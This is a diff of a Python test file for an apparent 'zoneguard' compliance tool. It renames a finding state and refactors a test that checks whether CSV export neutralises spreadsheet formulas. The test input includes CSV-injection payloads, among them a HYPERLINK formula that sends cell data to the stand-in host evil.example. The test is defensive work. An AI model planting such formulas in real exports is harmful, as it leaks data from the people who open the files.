@@ -39,7 +39,7 @@ def ids(session: Session) -> dict[str, int]:
         "due": add_finding(session, a, shop, rule_id="t.tobacco", verdict="review",
                            state="rectifying", deadline=date(2026, 7, 1), distance_m=98.0,
                            threshold_m=100.0),
-        "done": add_finding(session, b, lot, rule_id="t.lottery", state="verified_closed",
+        "done": add_finding(session, b, lot, rule_id="t.lottery", state="closed",
                             deadline=date(2026, 1, 1)),
     }
 
@@ -131,7 +131,7 @@ def test_findings_csv_neutralises_formulas() -> None:
 
     from zoneguard.services.findings import CSV_COLUMNS, to_csv
 
-    row = {c: None for c in CSV_COLUMNS}
+    row = dict.fromkeys(CSV_COLUMNS)
     row.update(id=1, premises_name='=HYPERLINK("http://evil.example/?x="&A1,"click")',
                school_name="@SUM(1+1)", distance_m=-3.5, reasons=["+cmd"])
     (parsed,) = list(csv.DictReader(io.StringIO(to_csv([row]))))
